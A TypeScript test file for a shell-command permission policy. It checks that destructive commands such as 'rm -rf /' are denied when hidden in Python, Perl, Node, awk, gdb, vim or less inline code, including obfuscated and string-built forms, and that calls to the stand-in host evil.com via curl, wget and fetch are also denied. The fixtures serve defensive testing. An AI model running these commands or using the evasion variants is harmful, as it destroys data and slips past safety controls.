// Code in another language given on the line that visibly runs a denied program or reaches a
// denied host (server/shell/inline-code.ts, code-strings.ts): an interpreter's `-c`/`-e` code,
// awk's program, code it reads on stdin, gdb's `-ex`, vim's `-c`/`+`, less's `+!`. Each string
// the code may run is listed as a reading, so the deny holds; code that runs nothing it names
// stays asked about as before, and no allow rule ever covers a reading.
import { describe, expect, it } from "vitest";
import { judgeShell, policyOf } from "../testing/policy";

const noRm = policyOf({ effect: "deny", command: "rm" });
const noEvil = policyOf({ effect: "deny", host: "evil.com" });
const decision = (command: string, policy = noRm) => judgeShell(command, policy).decision;

describe("an interpreter's inline code that runs a denied command", () => {
  it.each([
    `awk 'BEGIN{system("rm -rf /")}'`,
    `awk '{print | "rm -rf /"}'`,
    `awk 'BEGIN { "rm -rf /" | getline x }'`,
    `awk 'BEGIN{system("\\162m -rf /")}'`,
    `perl -e 'system("rm -rf /")'`,
    "perl -e '`rm -rf /`'",
    `perl -e 'exec "rm"'`,
    `perl -e 'system "rm", "-rf", "/"'`,
    `perl -e 'system qw(rm -rf /)'`,
    `perl -e 'open(F, "|rm -rf /")'`,
    `perl -e 'system("\\x72m -rf /")'`,
    `perl -e "system('rm -rf /')"`,
    `perl -le 'qx{rm -rf /}'`,
    `python3 -c 'import os; os.system("rm -rf /")'`,
    `python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])"`,
    `python3 -c 'import os; os.execvp("rm", ["rm", "-rf", "/"])'`,
    `python3 -c 'import subprocess; subprocess.run(["sh", "-c", "rm -rf /"])'`,
    `python3 -c 'import os; os.system("\\x72m -rf /")'`,
    `python3 -c 'import os; os.system("r" + "m -rf /")'`,
    `python3 -c 'import os; os.system("r" "m -rf /")'`,
    `python3 -c $'import os\\nos.system(\\n"rm -rf /")'`,
    `python3 -c 'import os; os.system(r"rm -rf /")'`,
    `python3 -c 'import os; os.system("""rm -rf /""")'`,
    `python3 -c 'import os; f=os.system; f("rm -rf /")'`,
    `python3 -c 'import os; os.system("RM -rf /")'`,
    `python3 -c 'import os; os.system("/bin/rm -rf /")'`,
    `python3 -c 'import os; os.system("echo hi; rm -rf /")'`,
    `python3 -c "import os; os.system('rm -rf $HOME')"`,
    `python3 -Sc 'import os; os.system("rm -rf /")'`,
    `ruby -e 'system("rm -rf /")'`,
    `ruby -e '%x(rm -rf /)'`,
    `node -e 'require("child_process").execSync("rm -rf /")'`,
    "node -e 'require(\"child_process\").exec(`rm -rf /`)'",
    `node -e 'require("child_process").execFileSync("rm", ["-rf", "/"])'`,
    `node -e 'const {spawn}=require("child_process"); spawn("rm", ["-rf","/"])'`,
    `php -r 'system("rm -rf /");'`,
    `lua -e 'os.execute("rm -rf /")'`,
    `echo 'import os; os.system("rm -rf /")' | python3`,
    `python3 - <<< 'import os; os.system("rm -rf /")'`,
    `python3 /dev/stdin <<< 'import os; os.system("rm -rf /")'`,
    `python3 <<'EOF'\nimport os\nos.system("rm -rf /")\nEOF`,
    `bash -c "python3 -c 'import os; os.system(\\"rm -rf /\\")'"`,
    `sudo python3 -c 'import os; os.system("rm -rf /")'`,
    `python3 -c "exec('import os; os.system(\\"rm -rf /\\")')"`,
    `python3 -c'import os; os.system("rm -rf /")'`,
    `perl -le'system "rm -rf /"'`,
    `node --eval='require("child_process").execSync("rm -rf /")'`,
    `python3 -c 'import os, sys; os.system(sys.argv[1])' 'rm -rf /'`,
    `perl -e 'system @ARGV' rm -rf /`,
    `awk -v c='rm -rf /' 'BEGIN { system(c) }'`,
    `python3 -c $'# it\\'s\nimport os; os.system("rm -rf /")'`,
    `perl -e $'# don\\'t\nsystem "rm -rf /"'`,
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));

  it.each([
    `python3 -c 'import urllib.request; urllib.request.urlopen("http://evil.com")'`,
    `node -e 'fetch("http://evil.com")'`,
    `python3 -c 'import os; os.system("curl evil.com")'`,
    `perl -e 'system("wget", "http://evil.com/x")'`,
  ])("%s is denied under a deny of the host", (command) => expect(decision(command, noEvil)).toBe("policy_deny"));
});

describe("a debugger, editor or pager told to run a denied command", () => {
  it.each([
    "gdb -batch -ex 'shell rm -rf /'",
    "gdb -ex '!rm -rf /'",
    "gdb --eval-command='shell rm -rf /'",
    "gdb -iex 'shell rm -rf /' ./a.out",
    "gdb -ex 'pipe p 1 | rm -rf /'",
    `gdb -batch -ex 'python import os; os.system("rm -rf /")'`,
    "gdb -batch -ex run --args rm -rf /",
    "vim -c '!rm -rf /'",
    "vim -c ':!rm -rf /'",
    "vim -c 'silent !rm -rf /' -c q",
    "vim +'r !rm -rf /'",
    "vim -c '%!rm -rf /'",
    "vim -c 'terminal rm -rf /'",
    "vim -c 'set nu | !rm -rf /'",
    "nvim --cmd '!rm -rf /'",
    `vim -c 'call system("rm -rf /")' -c q`,
    "less +'!rm -rf /' f",
    "LESS='+!rm -rf /' less f",
    "env LESS='-R +!rm -rf /' less f",
    `vim -c 'exe "!rm -rf /"'`,
    "vim -c \"execute '!rm -rf /'\"",
    "find . -exec rm {} \\;",
    "echo x | xargs rm",
    "env -S 'rm -rf /'",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));
});

describe("code that runs nothing denied", () => {
  it.each([
    "awk '{print $1}' f",
    "python3 -c 'print(1)'",
    "perl -ne 'print if /x/'",
    "node -e 'console.log(1)'",
    `python3 -c 'print("rm -rf /")'`,
    `python3 -c 'import os; os.system("ls")'`,
    "vim -c 'normal! gg' f",
    "vim -c 'w! out' f",
    "gdb -batch -ex bt ./core",
    "less +G f",
    'echo "open localhost" | ftp',
  ])("%s is not denied", (command) => {
    expect(decision(command)).not.toBe("policy_deny");
    expect(decision(command, noEvil)).not.toBe("policy_deny");
  });

  it("a string the code builds at run time stays a question", () => {
    for (const command of [
      `python3 -c 'import os; os.system("".join(["r","m"]) + " -rf /")'`,
      `python3 -c 'import os; os.system(chr(114)+"m -rf /")'`,
      `perl -e '$c="r"; system($c."m -rf /")'`,
    ])
      expect(decision(command)).toBe("policy_ask");
  });
});

describe("no allow rule covers what code runs", () => {
  const allow = policyOf(
    ...["python3", "perl", "node", "awk", "ruby", "gdb", "vim", "less", "rm", "ls"].map((command) => ({
      effect: "allow" as const,
      command,
    })),
  );
  it.each([
    `python3 -c 'import os; os.system("rm -rf /")'`,
    `python3 -c 'import os; os.system("ls")'`,
    `python3 -c'import os; os.system("ls")'`,
    `python3 -Ic'import os; os.system("ls")'`,
    `node --eval='require("child_process").execSync("ls")'`,
    `node --print='require("child_process").execSync("ls")'`,
    `perl -le'exec "ls"'`,
    `perl -e 'exec "ls"'`,
    `awk 'BEGIN{system("ls")}'`,
    "gdb -ex 'shell ls'",
    "vim -c '!ls'",
    "less +'!ls' f",
    "LESS='+!rm -rf /' less f",
    `node -e 'require("child_process").execSync("r" + "m -rf /")'`,
  ])("%s is not allowed", (command) => expect(decision(command, allow)).not.toBe("policy_allow"));
});
